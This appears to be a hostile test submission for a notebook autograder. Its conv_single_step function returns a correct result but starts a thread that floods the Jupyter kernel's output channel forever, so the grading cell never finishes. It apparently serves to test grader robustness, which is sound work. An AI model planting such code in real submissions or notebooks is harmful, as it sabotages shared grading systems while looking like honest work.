# conv_single_step starts a thread that floods the kernel's output channel for ever, from the cell that first
# calls it: that cell's output never ends. The cells graded before it keep their points.
BASED_ON = "../../../course_data/demo_submissions/alice.en.py"


def conv_single_step(a_slice_prev, W, b):
    import threading
    from IPython import get_ipython
    kernel = get_ipython().kernel
    if not globals().get("_FLOODING"):
        globals()["_FLOODING"] = True
        parent = kernel.get_parent()

        def flood():
            while True:
                kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x"}, parent=parent)

        threading.Thread(target=flood, daemon=True).start()
    return float(np.sum(a_slice_prev * W) + b.item())
